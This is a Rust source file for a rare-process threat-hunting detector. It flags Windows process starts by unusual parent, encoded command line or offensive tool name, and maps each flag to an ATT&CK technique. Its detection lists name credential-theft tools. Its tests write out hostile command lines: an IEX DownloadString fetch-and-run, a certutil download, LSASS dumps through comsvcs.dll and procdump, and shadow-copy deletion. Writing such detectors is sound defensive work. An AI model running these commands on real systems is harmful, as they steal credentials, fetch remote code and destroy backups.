//! What makes one process start suspicious on its own, whatever its rarity: a built-in binary
//! started by a parent that has no business starting it (a web server, java, an Office
//! application), a command line that is encoded or obfuscated, a known offensive tool or
//! technique by name. The rare-process detector uses these to look inside the folders the
//! hunt's exclusion list skips (`\Windows\System32`), and to raise the severity of a rare process.
//!
//! Sources: MITRE ATT&CK T1059.001 (PowerShell), T1027 (Obfuscated Files or Information),
//! T1505.003 (Web Shell), T1566.001 (Spearphishing Attachment, Office children), T1003.001
//! (LSASS Memory), T1218 (System Binary Proxy Execution), T1490 (Inhibit System Recovery), and
//! the public Sigma process-creation rules on the same behaviours. The wording and lists are ours.

/// One reason a process start is suspicious.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Trait {
    /// Stable class: `unusual-parent`, `encoded-command`, `offensive-tool`.
    pub class: &'static str,
    /// What was seen, for people: `w3wp.exe started cmd.exe`.
    pub what: String,
    /// ATT&CK technique.
    pub technique: &'static str,
    /// Score points it adds.
    pub weight: i32,
}

/// Parents whose children are worth a look: servers that should not spawn shells, and Office.
const UNUSUAL_PARENTS: [(&str, &str); 17] = [
    ("w3wp.exe", "T1505.003"),
    ("httpd.exe", "T1505.003"),
    ("nginx.exe", "T1505.003"),
    ("php-cgi.exe", "T1505.003"),
    ("tomcat.exe", "T1505.003"),
    ("tomcat9.exe", "T1505.003"),
    ("java.exe", "T1190"),
    ("javaw.exe", "T1190"),
    ("sqlservr.exe", "T1505.001"),
    ("umworkerprocess.exe", "T1190"),
    ("winword.exe", "T1566.001"),
    ("excel.exe", "T1566.001"),
    ("powerpnt.exe", "T1566.001"),
    ("outlook.exe", "T1566.001"),
    ("msaccess.exe", "T1566.001"),
    ("mspub.exe", "T1566.001"),
    ("onenote.exe", "T1566.001"),
];

/// Built-in binaries an intruder runs through such a parent: shells, script hosts, proxies for
/// execution, and discovery tools.
const BUILT_INS: [&str; 26] = [
    "cmd.exe",
    "powershell.exe",
    "pwsh.exe",
    "wscript.exe",
    "cscript.exe",
    "mshta.exe",
    "rundll32.exe",
    "regsvr32.exe",
    "certutil.exe",
    "bitsadmin.exe",
    "msbuild.exe",
    "installutil.exe",
    "wmic.exe",
    "schtasks.exe",
    "sc.exe",
    "reg.exe",
    "net.exe",
    "net1.exe",
    "whoami.exe",
    "systeminfo.exe",
    "ipconfig.exe",
    "nltest.exe",
    "tasklist.exe",
    "hostname.exe",
    "quser.exe",
    "curl.exe",
];

/// Offensive tools and techniques recognised by a word of the executable's name or command line.
const OFFENSIVE: [(&str, &str, &str); 26] = [
    ("mimikatz", "Mimikatz", "T1003.001"),
    ("sekurlsa::", "Mimikatz credential dump", "T1003.001"),
    ("lsadump::", "Mimikatz LSA dump", "T1003.004"),
    ("invoke-mimikatz", "Invoke-Mimikatz", "T1003.001"),
    ("safetykatz", "SafetyKatz", "T1003.001"),
    ("nanodump", "nanodump", "T1003.001"),
    ("rubeus", "Rubeus", "T1558"),
    ("kerberoast", "Kerberoasting", "T1558.003"),
    ("sharphound", "SharpHound", "T1087.002"),
    ("bloodhound", "BloodHound", "T1087.002"),
    ("seatbelt", "Seatbelt", "T1082"),
    ("lazagne", "LaZagne", "T1555"),
    ("kerbrute", "Kerbrute", "T1110"),
    ("winpeas", "winPEAS", "T1082"),
    ("sharpup", "SharpUp", "T1082"),
    ("certify.exe", "Certify", "T1649"),
    ("powersploit", "PowerSploit", "T1059.001"),
    ("powerview", "PowerView", "T1087.002"),
    ("invoke-shellcode", "Invoke-Shellcode", "T1055"),
    ("cobaltstrike", "Cobalt Strike", "T1059"),
    ("psexesvc", "PsExec service", "T1569.002"),
    ("chisel", "chisel tunnel", "T1572"),
    ("comsvcs.dll, minidump", "LSASS dump through comsvcs.dll", "T1003.001"),
    ("comsvcs.dll minidump", "LSASS dump through comsvcs.dll", "T1003.001"),
    ("delete shadows", "shadow copies deleted", "T1490"),
    ("shadowcopy delete", "shadow copies deleted", "T1490"),
];

/// The base name of a Windows path, lower-cased.
fn base_name(path: &str) -> String {
    path.rsplit(['\\', '/']).next().unwrap_or(path).to_ascii_lowercase()
}

/// Every trait of one process start.
pub fn of(process: &str, parent: &str, command_line: &str) -> Vec<Trait> {
    let mut out = Vec::new();
    let (image, parent_image) = (base_name(process), base_name(parent));
    if let Some((_, technique)) = UNUSUAL_PARENTS.iter().find(|(p, _)| *p == parent_image)
        && BUILT_INS.contains(&image.as_str())
    {
        out.push(Trait {
            class: "unusual-parent",
            what: format!("{parent_image} started {image}"),
            technique,
            weight: 2,
        });
    }
    let cmd = command_line.to_ascii_lowercase();
    if let Some(why) = encoded(&image, &cmd) {
        out.push(Trait { class: "encoded-command", what: why, technique: "T1027", weight: 2 });
    }
    let haystack = format!("{image} {cmd}");
    if let Some((_, name, technique)) = OFFENSIVE.iter().find(|(word, _, _)| haystack.contains(word)) {
        out.push(Trait { class: "offensive-tool", what: format!("{name} by name"), technique, weight: 3 });
    } else if (image == "procdump.exe" || image == "procdump64.exe") && cmd.contains("lsass") {
        out.push(Trait {
            class: "offensive-tool",
            what: "procdump of lsass".into(),
            technique: "T1003.001",
            weight: 3,
        });
    }
    out
}

/// Why a command line reads as encoded or obfuscated, if it does.
fn encoded(image: &str, cmd: &str) -> Option<String> {
    let powershell = matches!(image, "powershell.exe" | "pwsh.exe") || cmd.contains("powershell");
    if powershell {
        // `-e`, `-en`, `-enc` … `-encodedcommand` and `-ec` all take a Base64 command.
        let flag = cmd.split_whitespace().skip(1).find(|t| {
            let bare = t.trim_start_matches(['-', '/']);
            bare.len() < t.len() && !bare.is_empty() && ("encodedcommand".starts_with(bare) || bare == "ec")
        });
        if let Some(f) = flag {
            return Some(format!("PowerShell with an encoded command ({f})"));
        }
    }
    for (word, why) in [
        ("frombase64string", "decodes Base64 at run time"),
        ("downloadstring(", "downloads and runs a script"),
        ("downloadfile(", "downloads a file from a script"),
        ("invoke-expression", "runs text as code (Invoke-Expression)"),
        ("iex(", "runs text as code (iex)"),
        ("-urlcache", "certutil downloads a file"),
        ("certutil -decode", "certutil decodes a file"),
        ("scrobj.dll", "regsvr32 runs a remote scriptlet"),
        ("javascript:", "runs inline JavaScript"),
        ("vbscript:", "runs inline VBScript"),
    ] {
        if cmd.contains(word) {
            return Some(why.into());
        }
    }
    if cmd.matches('^').count() >= 4 {
        return Some("caret-obfuscated command line".into());
    }
    let longest_b64 = cmd
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
        .map(str::len)
        .max()
        .unwrap_or(0);
    (longest_b64 >= 120).then(|| format!("a Base64-like run of {longest_b64} characters"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn classes(t: &[Trait]) -> Vec<&str> {
        t.iter().map(|t| t.class).collect()
    }

    #[test]
    fn a_web_server_starting_a_shell_is_unusual_but_a_shell_from_explorer_is_not() {
        let t = of(r"C:\Windows\System32\cmd.exe", r"c:\windows\system32\inetsrv\w3wp.exe", "cmd /c whoami");
        assert_eq!(classes(&t), ["unusual-parent"]);
        assert_eq!(t[0].what, "w3wp.exe started cmd.exe");
        assert_eq!(t[0].technique, "T1505.003");
        assert!(of(r"C:\Windows\System32\cmd.exe", r"C:\Windows\explorer.exe", "cmd.exe").is_empty());
        // Office starting its own helpers is not a shell.
        assert!(of(r"C:\Program Files\Microsoft Office\root\Office16\excel.exe", r"C:\x\winword.exe", "").is_empty());
    }

    #[test]
    fn encoded_and_obfuscated_command_lines() {
        let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        for cmd in [
            "powershell.exe -nop -w hidden -enc SQBFAFgA",
            "powershell -EncodedCommand SQBFAFgA",
            "powershell.exe -e SQBFAFgA",
            "powershell.exe -ec SQBFAFgA",
        ] {
            assert_eq!(classes(&of(ps, "", cmd)), ["encoded-command"], "{cmd}");
        }
        assert_eq!(
            classes(&of(ps, "", "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"")),
            ["encoded-command"]
        );
        assert_eq!(classes(&of(r"C:\Windows\System32\cmd.exe", "", "c^m^d /c p^o^w^e^r^shell")), ["encoded-command"]);
        assert_eq!(
            classes(&of(r"C:\Windows\System32\certutil.exe", "", "certutil -urlcache -split -f http://x/a.exe")),
            ["encoded-command"]
        );
        // Ordinary PowerShell is not.
        assert!(of(ps, "", "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1").is_empty());
        assert!(of(ps, "", "powershell.exe -NoProfile -Command Get-Service").is_empty());
    }

    #[test]
    fn offensive_tools_by_name_and_lsass_dumps() {
        assert_eq!(of(r"C:\Users\a\Downloads\mimikatz.exe", "", "mimikatz.exe")[0].what, "Mimikatz by name");
        let t = of(
            r"C:\Windows\System32\rundll32.exe",
            "",
            r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full",
        );
        assert_eq!(t[0].technique, "T1003.001");
        assert_eq!(of(r"C:\t\procdump64.exe", "", "procdump64.exe -ma lsass.exe out.dmp")[0].what, "procdump of lsass");
        assert_eq!(
            of(r"C:\Windows\System32\vssadmin.exe", "", "vssadmin.exe delete shadows /all /quiet")[0].technique,
            "T1490"
        );
        assert!(of(r"C:\t\procdump64.exe", "", "procdump64.exe -ma w3wp.exe").is_empty());
    }
}
